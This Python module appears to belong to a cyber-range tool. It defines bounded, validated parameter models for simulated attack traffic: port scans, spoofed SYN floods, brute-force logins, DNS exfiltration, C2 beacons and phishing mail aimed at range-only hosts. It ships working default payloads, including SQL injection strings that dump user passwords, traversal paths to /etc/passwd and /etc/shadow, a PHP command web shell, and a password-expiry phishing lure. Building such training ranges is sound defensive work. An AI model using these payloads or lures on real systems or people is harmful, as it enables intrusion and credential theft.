"""Parameters of each traffic generator: pydantic models with documented, bounded, safe defaults.

Part of the scenario format (what a scenario's ``traffic`` mapping may say), so the
validator checks them without the traffic engine; :mod:`rangectl.traffic.generators`
maps each kind to the code that runs it.

Every model forbids unknown keys. Counts, rates and durations have upper
bounds, so an inject can never turn into an unbounded flood.
"""

from __future__ import annotations

import ipaddress
import re
from typing import Annotated, Any, Literal

from pydantic import (
    BaseModel,
    BeforeValidator,
    ConfigDict,
    Field,
    ValidationError,
    field_validator,
    model_validator,
)

from rangectl.scenario.durations import parse_duration
from rangectl.scenario.loader import dotted


def _seconds(v: object) -> float:
    return parse_duration(v)


def Seconds(default: float, *, le: float, gt: float = 0.0, description: str) -> object:  # noqa: N802
    return Field(default, gt=gt, le=le, description=description + " (a duration: 30s, 2m, or seconds)")


Dur = Annotated[float, BeforeValidator(_seconds)]

MAX_PORTS = 65535


def parse_ports(spec: object) -> list[int]:
    """``"22,80,1-1024"`` (or an int, or a list of both) -> sorted unique ports."""
    if isinstance(spec, bool):
        raise ValueError("ports are like '22,80,1-1024'")
    items: list[object]
    if isinstance(spec, int):
        items = [spec]
    elif isinstance(spec, str):
        items = [p for p in re.split(r"[,\s]+", spec.strip()) if p]
    elif isinstance(spec, list):
        items = list(spec)
    else:
        raise ValueError("ports are like '22,80,1-1024'")
    if not items:
        raise ValueError("no ports given")
    out: set[int] = set()
    for it in items:
        if isinstance(it, bool):
            raise ValueError(f"'{it}' is not a port")
        if isinstance(it, int):
            lo = hi = it
        else:
            m = re.fullmatch(r"\s*(\d+)\s*(?:-\s*(\d+)\s*)?", str(it))
            if not m:
                raise ValueError(f"'{it}' is not a port or a range like 1-1024")
            lo = int(m.group(1))
            hi = int(m.group(2)) if m.group(2) else lo
        if not (1 <= lo <= 65535 and 1 <= hi <= 65535):
            raise ValueError(f"port {lo if not 1 <= lo <= 65535 else hi} is outside 1-65535")
        if lo > hi:
            raise ValueError(f"range {lo}-{hi} runs backwards")
        out.update(range(lo, hi + 1))
    return sorted(out)


class Params(BaseModel):
    model_config = ConfigDict(extra="forbid", frozen=True)


Port = Annotated[int, Field(ge=1, le=65535)]


class PortscanParams(Params):
    ports: str | int | list[int | str] = Field(
        "1-1024", description="ports to probe: '22,80,443', '1-1024', a mix, or a list"
    )
    method: Literal["syn", "connect"] = Field(
        "syn", description="syn: half-open SYN probes built with Scapy (raw frames); connect: full TCP connects"
    )
    rate: float = Field(200.0, gt=0, le=5000, description="probes per second")
    timeout: Dur = Field(1.0, gt=0, le=10, description="wait for answers after the last probe (connect: per connect)")
    retries: int = Field(0, ge=0, le=2, description="re-probe ports that did not answer (syn)")
    concurrency: int = Field(32, ge=1, le=256, description="connects in flight at once (connect)")
    randomize: bool = Field(True, description="probe ports in random order, as scanners do")
    duration: Dur = Seconds(120.0, le=900, description="stop after this long")

    @field_validator("ports", mode="before")
    @classmethod
    def _ports(cls, v: object) -> object:
        parse_ports(v)
        return v

    @property
    def port_list(self) -> list[int]:
        return parse_ports(self.ports)


class SynfloodParams(Params):
    port: Port = Field(80, description="target TCP port")
    count: int = Field(2000, ge=1, le=1_000_000, description="SYN packets to send at most")
    rate: float = Field(500.0, gt=0, le=50_000, description="packets per second")
    duration: Dur = Seconds(30.0, le=600, description="stop after this long")
    spoof: str | None = Field(
        None,
        description="forge random sources from this CIDR (must lie inside the range's subnets); default: the node's own address",
    )

    @field_validator("spoof")
    @classmethod
    def _spoof(cls, v: str | None) -> str | None:
        if v is None:
            return v
        try:
            net = ipaddress.IPv4Network(v, strict=False)
        except ValueError as exc:
            raise ValueError(f"'{v}' is not an IPv4 network like 10.10.0.0/24") from exc
        if net.num_addresses < 1:
            raise ValueError("empty network")
        return str(net)


class HttpRequestSpec(Params):
    method: Literal["GET", "POST", "PUT", "DELETE", "HEAD", "OPTIONS", "PATCH"] = Field("GET", description="HTTP method")
    path: str = Field(pattern=r"^/", description="path and query, as sent")
    body: str | None = Field(None, description="request body")
    content_type: str | None = Field(None, description="Content-Type of the body (default form-urlencoded)")
    headers: dict[str, str] = Field(default_factory=dict, description="extra headers")


DEFAULT_SQLI = [
    "' OR '1'='1",
    "' OR 1=1--",
    "1' UNION SELECT username, password, role FROM users--",
    "1' UNION SELECT name, sql, type FROM sqlite_master--",
    "1' AND 1=CAST((SELECT password FROM users LIMIT 1) AS INT)--",
]
DEFAULT_TRAVERSAL = [
    "/../../../../etc/passwd",
    "/..%2f..%2f..%2f..%2fetc%2fpasswd",
    "/static/..%252f..%252f..%252fetc%252fshadow",
    "/uploads/....//....//....//etc/hosts",
    "/index.html?file=../../../../etc/passwd",
]
DEFAULT_SHELL = '<?php if(isset($_REQUEST["cmd"])){ echo "<pre>"; system($_REQUEST["cmd"]); echo "</pre>"; } ?>\n'


class HttpParams(Params):
    port: Port = Field(80, description="target TCP port")
    host: str | None = Field(None, description="Host header (default: the target's address)")
    attacks: list[Literal["sqli", "traversal", "webshell"]] = Field(
        default_factory=lambda: ["sqli", "traversal", "webshell"],
        description="attack groups to run, in order",
    )
    lookup_path: str = Field("/lookup", pattern=r"^/", description="page with the injectable parameter (sqli)")
    lookup_param: str = Field("id", min_length=1, description="the injectable query parameter (sqli)")
    sqli_payloads: list[str] = Field(
        default_factory=lambda: list(DEFAULT_SQLI), max_length=100, description="values sent in lookup_param (URL-encoded)"
    )
    traversal_paths: list[str] = Field(
        default_factory=lambda: list(DEFAULT_TRAVERSAL), max_length=100, description="paths requested as written (traversal)"
    )
    upload_path: str = Field("/upload", pattern=r"^/", description="multipart upload form target (webshell)")
    upload_field: str = Field("file", min_length=1, description="form field of the file (webshell)")
    shell_name: str = Field("shell.php", pattern=r"^[A-Za-z0-9._-]{1,64}$", description="uploaded file name")
    shell_body: str = Field(DEFAULT_SHELL, max_length=65536, description="uploaded web-shell content")
    shell_url: str | None = Field(
        "/uploads/{name}", description="where the upload is requested afterwards ({name} = shell_name); null: skip"
    )
    shell_commands: list[str] = Field(
        default_factory=lambda: ["id", "uname -a"], max_length=20, description="cmd= values sent to the uploaded shell"
    )
    requests: list[HttpRequestSpec] = Field(
        default_factory=list, max_length=100, description="extra requests sent after the attack groups"
    )
    user_agent: str = Field(
        "Mozilla/5.0 (X11; Linux x86_64; rv:115.0) Gecko/20100101 Firefox/115.0", description="User-Agent header"
    )
    rate: float = Field(2.0, gt=0, le=100, description="requests per second")
    timeout: Dur = Field(5.0, gt=0, le=60, description="per-request timeout")
    max_requests: int = Field(100, ge=1, le=1000, description="requests at most")
    duration: Dur = Seconds(120.0, le=900, description="stop after this long")


DEFAULT_PASSWORDS = [
    "123456",
    "password",
    "admin",
    "admin123",
    "12345678",
    "qwerty",
    "letmein",
    "welcome",
    "Password1",
    "abc123",
    "P@ssw0rd",
    "changeme",
    "iloveyou",
    "111111",
    "root",
    "toor",
    "123456789",
    "dragon",
    "monkey",
    "secret",
]


class BruteforceParams(Params):
    service: Literal["http", "ssh"] = Field(
        "http", description="http: POSTs to a login form; ssh: banner grab + one connection per attempt"
    )
    port: Port | None = Field(None, description="target port (default 80 for http, 22 for ssh)")
    path: str = Field("/login", pattern=r"^/", description="login form target (http)")
    user_field: str = Field("username", min_length=1, description="form field of the user name (http)")
    pass_field: str = Field("password", min_length=1, description="form field of the password (http)")
    usernames: list[str] = Field(
        default_factory=lambda: ["admin"], min_length=1, max_length=100, description="user names tried, each with every password"
    )
    passwords: list[str] = Field(
        default_factory=lambda: list(DEFAULT_PASSWORDS),
        min_length=1,
        max_length=10000,
        description="passwords tried, in order (default: 20 common ones)",
    )
    attempts: int = Field(40, ge=1, le=5000, description="login attempts at most")
    stop_on_success: bool = Field(True, description="stop at the first accepted login (http)")
    success_status: list[int] = Field(
        default_factory=lambda: [200, 302, 303], min_length=1, description="HTTP statuses that mean an accepted login"
    )
    failure_text: str | None = Field(None, description="a body containing this text is a failed login (http)")
    ssh_client_id: str = Field(
        "SSH-2.0-libssh_0.9.6", pattern=r"^SSH-2\.0-\S+$", description="identification string sent (ssh)"
    )
    user_agent: str = Field(
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/120.0 Safari/537.36",
        description="User-Agent header (http)",
    )
    rate: float = Field(2.0, gt=0, le=50, description="attempts per second")
    timeout: Dur = Field(5.0, gt=0, le=60, description="per-attempt timeout")
    duration: Dur = Seconds(120.0, le=900, description="stop after this long")


_LABEL = r"[a-z0-9]([a-z0-9-]{0,61}[a-z0-9])?"


class DnsExfilParams(Params):
    domain: str = Field(
        "cdn-sync.range.test", pattern=rf"^{_LABEL}(\.{_LABEL})*$", description="queries are <chunk>.<seq>.<domain>"
    )
    data: str | None = Field(None, max_length=65536, description="text to exfiltrate (default: random bytes)")
    random_bytes: int = Field(256, ge=1, le=65536, description="random bytes to exfiltrate when data is not given")
    label_length: int = Field(30, ge=1, le=63, description="base32 characters per query label")
    qtype: Literal["A", "AAAA", "TXT", "CNAME", "MX", "NULL"] = Field("A", description="query type")
    port: Port = Field(53, description="resolver UDP port")
    rate: float = Field(10.0, gt=0, le=500, description="queries per second")
    max_queries: int = Field(2000, ge=1, le=20000, description="queries at most")
    wait: Dur = Field(0.5, ge=0, le=10, description="wait for answers after the last query")
    duration: Dur = Seconds(120.0, le=900, description="stop after this long")

    @model_validator(mode="after")
    def _name_fits(self) -> DnsExfilParams:
        longest = self.label_length + 1 + len(str(self.max_queries)) + 1 + len(self.domain)
        if longest > 253:
            raise ValueError(f"names would be {longest} characters (DNS allows 253): shorten domain or label_length")
        return self


class BeaconParams(Params):
    protocol: Literal["http", "udp"] = Field("http", description="HTTP GET check-ins, or UDP datagrams")
    port: Port | None = Field(None, description="C2 port (default 80 for http, 4444 for udp)")
    path: str = Field("/api/v2/status", pattern=r"^/", description="check-in path (http)")
    interval: Dur = Field(10.0, gt=0, le=3600, description="time between check-ins")
    jitter: float = Field(0.2, ge=0, le=0.9, description="random fraction of the interval added or removed")
    count: int = Field(10, ge=1, le=10000, description="check-ins at most")
    beacon_id: str | None = Field(None, pattern=r"^[A-Za-z0-9_-]{1,64}$", description="implant id (default random)")
    payload_bytes: int = Field(48, ge=0, le=1200, description="random bytes carried per check-in")
    user_agent: str = Field(
        "Mozilla/5.0 (compatible; MSIE 10.0; Windows NT 6.1; Trident/6.0)", description="User-Agent header (http)"
    )
    timeout: Dur = Field(3.0, gt=0, le=60, description="per check-in timeout")
    duration: Dur = Seconds(300.0, le=3600, description="stop after this long")


DEFAULT_PHISH_BODY = (
    "Dear colleague,\n\nYour mailbox password expires today. To keep access to your mail and the"
    " portal, confirm your account within 24 hours:\n\n{link}\n\nIT Helpdesk\n"
)


class PhishingParams(Params):
    port: Port = Field(25, description="SMTP port of the mail node")
    sender: str = Field("it-helpdesk@range.test", pattern=r"^[^@\s]+@[^@\s]+$", description="envelope and From address")
    display_name: str = Field("IT Helpdesk", max_length=100, description="display name of the From header")
    to: list[Annotated[str, Field(pattern=r"^[^@\s]+@[^@\s]+$")]] = Field(
        default_factory=lambda: ["staff@range.test"], min_length=1, max_length=50, description="recipients"
    )
    subject: str = Field(
        "Action required: your password expires today", max_length=300, description="Subject header"
    )
    body: str = Field(DEFAULT_PHISH_BODY, max_length=65536, description="text body; {link} is replaced by the link")
    link: str = Field("http://portal-login.range.test/account/verify", max_length=2000, description="the lure link")
    html: bool = Field(True, description="add an HTML part whose anchor text hides the link")
    helo: str = Field("mail.helpdesk-support.range.test", max_length=255, description="name given in EHLO")
    count: int = Field(1, ge=1, le=100, description="messages to send")
    rate: float = Field(1.0, gt=0, le=10, description="messages per second")
    timeout: Dur = Field(10.0, gt=0, le=120, description="SMTP session timeout")
    duration: Dur = Seconds(60.0, le=900, description="stop after this long")


class PcapParams(Params):
    file: str = Field(min_length=1, description="capture file (pcap or pcapng), beside the scenario or in scenarios/")
    map: dict[str, str] = Field(
        default_factory=dict,
        description="capture IPv4 address -> node name (or address) of this team's range",
    )
    speed: float = Field(1.0, gt=0, le=1000, description="multiplier of the capture's own timing")
    pps: float | None = Field(None, gt=0, le=2_000_000, description="fixed packets per second instead")
    topspeed: bool = Field(False, description="as fast as the interface takes them")
    loop: int = Field(1, ge=1, le=1000, description="times to replay the capture")
    max_packets: int = Field(500_000, ge=1, le=5_000_000, description="frames sent at most (over all loops)")
    drop_outside: bool = Field(
        False, description="drop packets addressed outside the range instead of refusing the whole replay"
    )
    duration: Dur = Seconds(300.0, le=3600, description="stop after this long")

    @field_validator("map")
    @classmethod
    def _map(cls, v: dict[str, str]) -> dict[str, str]:
        for k in v:
            try:
                ipaddress.IPv4Address(str(k))
            except ValueError as exc:
                raise ValueError(f"map key '{k}' is not an IPv4 address of the capture") from exc
        return {str(k): str(x) for k, x in v.items()}

    @model_validator(mode="after")
    def _one_timing(self) -> PcapParams:
        given = [n for n in ("speed", "pps") if n in self.model_fields_set]
        if self.topspeed:
            given.append("topspeed")
        if self.pps is None and "pps" in given:
            given.remove("pps")
        if len(given) > 1:
            raise ValueError(f"give one timing: speed, pps or topspeed (got {', '.join(given)})")
        return self


#: Every traffic kind a scenario may name, with its parameter model (file order is the
#: order ``rangectl traffic list`` shows).
PARAMS: dict[str, type[Params]] = {
    "portscan": PortscanParams,
    "synflood": SynfloodParams,
    "http": HttpParams,
    "bruteforce": BruteforceParams,
    "dns-exfil": DnsExfilParams,
    "beacon": BeaconParams,
    "phishing": PhishingParams,
    "pcap": PcapParams,
}

#: Kinds that run without a ``target`` (a capture names its own addresses).
NO_TARGET = frozenset({"pcap"})

# Keys of the scenario's traffic mapping that are not generator parameters.
RESERVED = ("kind", "from", "target")


def _path(loc: tuple[Any, ...]) -> str:
    return dotted(loc)


def _message(kind: str, err: dict[str, Any], model: type[BaseModel]) -> str:
    typ = err.get("type", "")
    if typ == "extra_forbidden":
        known = ", ".join(model.model_fields)
        return f"unknown parameter '{err['loc'][-1]}' for {kind} (known: {known})"
    if typ == "missing":
        return f"missing required parameter '{err['loc'][-1]}' for {kind}"
    if typ == "string_pattern_mismatch":
        field = next((p for p in reversed(err.get("loc", ())) if isinstance(p, str)), "")
        what = _PATTERN_HELP.get(field, "in the expected format")
        return f"{err.get('input')!r} is not {what}"
    msg = str(err.get("msg", "invalid"))
    for prefix in ("Value error, ", "Assertion failed, "):
        if msg.startswith(prefix):
            msg = msg[len(prefix) :]
    return msg


def _problems(kind: str, model: type[BaseModel], exc: ValidationError) -> list[tuple[str, str]]:
    out: list[tuple[str, str]] = []
    seen: set[tuple[str, str]] = set()
    for err in exc.errors():
        loc = tuple(err.get("loc", ()))
        # union members add their type name to the location; keep the field path only
        loc = tuple(p for p in loc if not (isinstance(p, str) and ("[" in p or p in _UNION_TAGS)))
        item = (_path(loc), _message(kind, err, model))
        if item not in seen:
            seen.add(item)
            out.append(item)
    return out


_PATTERN_HELP = {
    "domain": "a lower-case domain name like exfil.range.test",
    "sender": "an e-mail address like helpdesk@range.test",
    "to": "an e-mail address like staff@range.test",
    "path": "a path starting with /",
    "lookup_path": "a path starting with /",
    "upload_path": "a path starting with /",
    "shell_name": "a plain file name (letters, digits, . _ -)",
    "beacon_id": "an id of letters, digits, _ and - (at most 64)",
    "ssh_client_id": "an SSH identification string like SSH-2.0-libssh_0.9.6",
}

_UNION_TAGS = {"str", "int", "float", "bool", "list", "dict", "none", "function-after", "function-before"}


def _split(params: dict[str, Any] | None) -> dict[str, Any]:
    return {k: v for k, v in (params or {}).items() if k not in RESERVED}


def validate_params(kind: str, params: dict[str, Any] | None) -> list[tuple[str, str]]:
    """Problems with a traffic inject's parameters, as (field path, message); [] when fine.

    ``params`` is the inject's mapping without ``kind``/``from``/``target``
    (they are ignored if present). An unknown kind is reported at path ``kind``.
    """
    return check_params(kind, params)[1]


def check_params(kind: str, params: dict[str, Any] | None) -> tuple[Params | None, list[tuple[str, str]]]:
    """``(model, [])`` for good parameters, ``(None, problems)`` otherwise."""
    model = PARAMS.get(kind)
    if model is None:
        return None, [("kind", f"unknown traffic kind '{kind}' (known: {', '.join(PARAMS)})")]
    if params is not None and not isinstance(params, dict):
        return None, [("", f"{kind} parameters must be a mapping")]
    try:
        return model.model_validate(_split(params)), []
    except ValidationError as exc:
        return None, _problems(kind, model, exc)
